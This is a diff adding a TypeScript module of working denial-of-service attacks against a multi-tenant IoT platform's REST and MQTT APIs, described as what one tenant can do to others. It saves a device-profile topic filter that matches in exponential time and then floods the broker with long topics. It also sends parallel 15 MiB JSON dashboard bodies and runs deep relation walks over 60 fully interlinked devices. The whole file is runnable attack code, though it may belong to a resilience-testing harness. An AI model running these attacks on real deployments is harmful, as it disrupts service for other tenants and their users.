@@ -1,0 +1,86 @@
+import { setTimeout as pause } from "node:timers/promises";
+import { connectAsync } from "mqtt";
+import { type Attack, call, forever, type Target } from "./target.ts";
+
+const MIB = 1024 * 1024;
+const WALKED = 60;
+
+/** What a tenant's administrator, or a user of his, can do to other tenants. */
+export const TENANTS: Readonly<Record<string, Attack>> = {
+  /** A profile's topic filter that matches in exponential time, where it is taken, and topics that make it. */
+  topicFilter: async (target, count) => {
+    const { userToken: token, deviceToken: username, host, mqttPort: port } = target;
+    const { text } = await call(target, { method: "GET", path: "/api/deviceProfiles?pageSize=1&page=0", token });
+    const [profile] = (JSON.parse(text) as { data: readonly Record<string, unknown>[] }).data;
+    const transportConfiguration = {
+      type: "MQTT",
+      deviceTelemetryTopic: "++++b",
+      deviceAttributesTopic: "v1/devices/me/attributes",
+      transportPayloadTypeConfiguration: { transportPayloadType: "JSON" },
+    };
+    const profileData = { ...(profile?.profileData as object), transportConfiguration };
+    const body = JSON.stringify({ ...profile, transportType: "MQTT", profileData });
+    const { status } = await call(target, { method: "POST", path: "/api/deviceProfile", token, body });
+    count(`saved with ${status}`);
+    const device = await connectAsync({ host, port, username });
+    await forever(1, async () => {
+      device.publish("a".repeat(500), "{}", { qos: 0 });
+      count("published");
+      await pause(100);
+    });
+  },
+
+  /** Three bodies of 15 MiB of JSON at a time. */
+  bigJson: async (target, count) => {
+    const { userToken: token } = target;
+    const widgets = `[${"{},".repeat(5 * MIB)}{}]`;
+    const body = JSON.stringify({ title: "big", configuration: {} }).replace("{}", `{"widgets":${widgets}}`);
+    await forever(3, async () => {
+      const { status } = await call(target, { method: "POST", path: "/api/dashboard", token, body });
+      count(`status ${status}`);
+    });
+  },
+
+  /** Ten walks at a time over entities each of which leads to all others. */
+  relationWalks: async (target, count) => {
+    const { userToken: token } = target;
+    const entities = await relatedDevices(target, token);
+    const body = JSON.stringify({
+      parameters: {
+        rootId: entities[0],
+        rootType: "DEVICE",
+        direction: "FROM",
+        relationTypeGroup: "COMMON",
+        maxLevel: 50,
+        fetchLastLevelOnly: false,
+      },
+      filters: [],
+    });
+    await forever(10, async () => {
+      const { status } = await call(target, { method: "POST", path: "/api/relations", token, body });
+      count(`status ${status}`);
+    });
+  },
+};
+
+async function relatedDevices(target: Target, token: string): Promise<readonly string[]> {
+  const ids: string[] = [];
+  for (let number = 0; number < WALKED; number++) {
+    const body = JSON.stringify({ name: `walked ${number}` });
+    const { text } = await call(target, { method: "POST", path: "/api/device", token, body });
+    ids.push((JSON.parse(text) as { id: { id: string } }).id.id);
+  }
+  for (const from of ids) {
+    const relate = async (to: string): Promise<void> => {
+      const body = JSON.stringify({
+        from: { entityType: "DEVICE", id: from },
+        to: { entityType: "DEVICE", id: to },
+        type: "Contains",
+        typeGroup: "COMMON",
+      });
+      await call(target, { method: "POST", path: "/api/relation", token, body });
+    };
+    await Promise.all(ids.filter((to) => to !== from).map(relate));
+  }
+  return ids;
+}
